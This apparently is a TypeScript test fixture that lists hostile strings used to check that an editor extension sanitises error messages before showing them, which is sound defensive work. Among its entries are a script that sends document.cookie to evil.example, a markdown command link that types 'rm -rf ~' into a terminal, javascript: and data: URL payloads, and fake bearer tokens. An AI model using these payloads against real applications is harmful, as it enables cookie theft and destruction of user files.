// Hostile production text: what a stranger can put into an error title, an exception message, an alert
// summary or a stack frame. Shared by the unit tests of the rendering helpers and the extension-host test
// that pushes it through a replaying Sentry into hovers, trees, the status bar and the Health view.

/** Bidi controls (Trojan Source, CVE-2021-42574): embeddings, overrides, isolates and the directional marks. */
export const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];

/** Invisible characters that hide or split text: zero-width space/joiners, word joiner, invisible operators, BOM. */
export const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\u2062', '\u2063', '\u2064', '\ufeff'];

const ESC = String.fromCharCode(27);

/** C0 and C1 controls, DEL, and the Unicode line and paragraph separators. */
export const CONTROL = [
  ...Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)),
  '\u007f',
  ...Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)),
  '\u2028',
  '\u2029',
];

/** Every character a cleaned, single-line string must not contain. */
export const INVISIBLE_OR_CONTROL = new RegExp(`[${[...BIDI, ...ZERO_WIDTH, ...CONTROL].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}]`, 'u');

export const ONE_MB = 'A'.repeat(1024 * 1024);

export interface HostileString {
  name: string;
  text: string;
}

/** The corpus. Each entry is a complete error title or message as a hostile producer would send it. */
export const HOSTILE: readonly HostileString[] = [
  { name: 'html', text: '<img src=x onerror="alert(1)"><b>bold</b><iframe src="https://evil.example/"></iframe>' },
  { name: 'script', text: 'TypeError: <script>fetch("https://evil.example/?c="+document.cookie)</script>' },
  { name: 'closing-script', text: '</script><script nonce="guess">alert(1)</script>' },
  { name: 'markdown command link', text: 'Error: click [here](command:workbench.action.terminal.new) to fix' },
  { name: 'markdown command link with args', text: '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)' },
  { name: 'markdown image', text: '![x](https://evil.example/p.png) tracking pixel' },
  { name: 'reference link', text: '[x][1]\n\n[1]: command:workbench.action.terminal.new' },
  { name: 'autolink', text: '<command:workbench.action.terminal.new> and <https://evil.example/>' },
  { name: 'raw command uri', text: 'command:workbench.action.openSettings?%5B%22prodlens%22%5D' },
  { name: 'javascript url', text: 'javascript:alert(document.domain)//' },
  { name: 'data url', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { name: 'ansi', text: `${ESC}[31mRED${ESC}[0m ${ESC}]8;;https://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\ ${ESC}[2J${ESC}[H` },
  { name: 'bidi override', text: `Error: access denied\u202e\u2066 // admin only \u2069\u2066` },
  { name: 'bidi marks', text: `TypeError\u200f: \u061cx\u200ey\u202bz\u202c` },
  { name: 'zero width', text: `Type\u200bError:\u200c\u200d pay\u2060ment\u2061\u2062\u2063\u2064\ufefffailed` },
  { name: 'control characters', text: `Error\u0000:\u0007 bell\u0008\u007f\u0085next\u2028line\u2029para\r\nCRLF\ttab\u000bvt\u000cff` },
  { name: 'newlines and headings', text: 'Error: x\n\n# Heading\n\n---\n\n> quote\n\n* item\n\n1. numbered\n\n| a | b |\n|---|---|' },
  { name: 'backticks and fences', text: 'Error: `code` ``double`` \n```js\nalert(1)\n```\n~~~\nfence\n~~~' },
  { name: 'entities', text: 'Error: &lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &amp;&quot;' },
  { name: 'emphasis and escapes', text: '**bold** __u__ *i* _i_ ~~s~~ \\[not\\](escaped) \\\\[x](command:x)' },
  { name: 'codicon syntax', text: '$(alert) $(loading~spin) $(gear) status-bar icon injection' },
  { name: 'html comment', text: '<!-- hidden --> visible <!--' },
  { name: 'long line of specials', text: '[]()<>!`'.repeat(20_000) },
  { name: 'one megabyte', text: `Error: ${ONE_MB}` },
];

/** Secret values placed inside hostile strings, and the forms in which they appear in messages and headers. */
export const SECRET = 'sntrys_s3cr3t-T0K3N_value_4f8a';

export const SECRET_CARRIERS: readonly HostileString[] = [
  { name: 'bearer header', text: `request failed: Authorization: Bearer ${SECRET} <script>` },
  { name: 'lowercase bearer', text: `[x](command:y) bearer ${SECRET}` },
  { name: 'basic header', text: `proxy said: Basic ${Buffer.from(`user:${SECRET}`).toString('base64')} \u202e` },
  { name: 'pagerduty token', text: `Authorization: Token token=${SECRET}\u200b` },
  { name: 'url credentials', text: `fetch https://admin:${SECRET}@prom.example/api/v1/query failed` },
  { name: 'api_key query', text: `GET /api?api_key=${SECRET}&x=1 ![x](https://evil.example/p.png)` },
  { name: 'json token', text: `{"token": "${SECRET}", "html": "<b>"}` },
  { name: 'password assignment', text: `password=${SECRET}; ${'('.repeat(100)}` },
];
